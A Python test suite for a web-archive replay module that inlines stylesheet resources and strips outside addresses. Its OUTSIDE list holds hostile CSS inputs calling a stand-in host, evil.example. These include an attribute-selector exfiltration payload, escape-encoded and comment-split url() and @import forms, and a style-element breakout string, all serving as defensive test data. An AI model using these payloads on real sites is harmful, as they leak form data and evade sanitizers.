"""Every address in a stylesheet becomes the content itself, or nothing."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from corpus import Archive
from corpus.replay.styles import MAX_SHEET, Styles, in_element
from corpus.replay.supply import Part, Supply, data_uri, part_key
from tests.corpus.replay.saved_parts import RED

BASE = "https://jarida.example/css/main.css"
FONT = b"wOF2" + bytes(20)
SHEETS = {
    "a.css": b"@import 'b.css' screen; a { color: red }",
    "b.css": b"b { background: url(../img/red.png) }",
    "self.css": b"@import 'self.css'; a { color: red }",
    "long.css": b"a { color: red } " * (MAX_SHEET // 17 + 10) + b"url",
}
PARTS = {
    **{part_key(f"https://jarida.example/css/{name}"): Part(data, "text/css") for name, data in SHEETS.items()},
    part_key("https://jarida.example/img/red.png"): Part(RED, "image/png"),
    part_key("https://jarida.example/f.woff2"): Part(FONT, "application/octet-stream"),
    part_key("https://jarida.example/windows.css"): Part(
        "b { content: 'خبر' }".encode("cp1256"), "text/css", "windows-1256"
    ),
}
PICTURE, LETTERS = data_uri("image/png", RED), data_uri("font/woff2", FONT)


@pytest.fixture
def styles(tmp_path: Path) -> Iterator[Styles]:
    with Archive.create(tmp_path / "archive") as archive:
        yield Styles(Supply(archive, datetime(2019, 3, 1, tzinfo=UTC), PARTS))


REWRITTEN = [
    ("a { background: url(../img/red.png) }", f'a {{ background: url("{PICTURE}") }}'),
    ("a { background: url( '../img/red.png' ) }", PICTURE),
    (r"a { background: \75 rl(../img/red.png) }", PICTURE),
    ("a { background: image-set('../img/red.png' 1x) }", PICTURE),
    ("a { background: -webkit-image-set(url(../img/red.png) 1x) }", PICTURE),
    ("@media print { a { background: URL(../img/red.png) } }", PICTURE),
    ("@font-face { src: url(/f.woff2) format('woff2') }", LETTERS),
    (":root { --photo: url(../img/red.png) }", PICTURE),
    ("a { fill: url(#shade) }", "url(#shade)"),
    ("a { color: red }", "a { color: red }"),
    ("a { background: url(data:image/gif;base64,R0lGODlh) }", "data:image/gif;base64,R0lGODlh"),
]


@pytest.mark.parametrize(("css", "expected"), REWRITTEN)
def test_what_was_captured_is_in_the_stylesheet(styles: Styles, css: str, expected: str) -> None:
    assert expected in (styles.text(css, BASE) or "")


OUTSIDE = [
    "a { background: url(https://evil.example/?a) }",
    "a { background: url( //evil.example/?a }",
    "input[value^=a] { background: url('https://evil.example/a') }",
    r"a { background: u\72\6c ( 'https://evil.example/' ) }",
    r"a { background: \000075rl(https://evil.example/) }",
    "a { background: src('https://evil.example/') }",
    "a { background: image-set('https://evil.example/' 1x, url(https://evil.example/b) 2x) }",
    "a { background: url/**/('https://evil.example/') }",
    "@import 'https://evil.example/a.css';",
    "@import url(https://evil.example/a.css) screen;",
    r"@\69mport 'https://evil.example/a.css';",
    "@import /* x */ url('https://evil.example/a.css') layer(x) supports(display: grid) print;",
    "@font-face { font-family: x; src: url(https://evil.example/f.woff2) }",
    "@media (min-width: 1px) { @supports (display: grid) { a { cursor: url(https://evil.example/c.cur), auto } } }",
    "a { background: url('https://evil.example/\\\n') }",
    "<!-- a { background: url(https://evil.example/) } -->",
]


@pytest.mark.parametrize("css", OUTSIDE)
def test_no_address_leads_outside(styles: Styles, css: str) -> None:
    written = styles.text(css, BASE)
    assert written is not None
    # A space before a bracket makes it no address, neither here nor in browsers.
    assert "evil.example" not in written or "url/**/(" in written or "url (" in written


def test_imported_stylesheets_are_in_it(styles: Styles) -> None:
    written = styles.sheet("https://jarida.example/css/a.css") or ""
    inner = base64.b64decode(written.partition("base64,")[2].partition('"')[0]).decode()
    assert "screen" in written
    assert PICTURE in inner


def test_a_stylesheet_that_imports_itself_ends(styles: Styles) -> None:
    assert "color: red" in (styles.sheet("https://jarida.example/css/self.css") or "")


def test_a_stylesheet_in_another_encoding_is_decoded(styles: Styles) -> None:
    assert "خبر" in (styles.sheet("https://jarida.example/windows.css") or "")


def test_a_stylesheet_that_is_too_long_is_left_out(styles: Styles) -> None:
    assert styles.sheet("https://jarida.example/css/long.css") is None


def test_brackets_without_end_are_left_out(styles: Styles) -> None:
    assert styles.text("@x " + "(" * 20_000 + "url(https://evil.example/)", BASE) is None


def test_a_stylesheet_does_not_end_its_element() -> None:
    assert "</style" not in in_element("a { content: '</style><img src=x>' } <!-- -->")
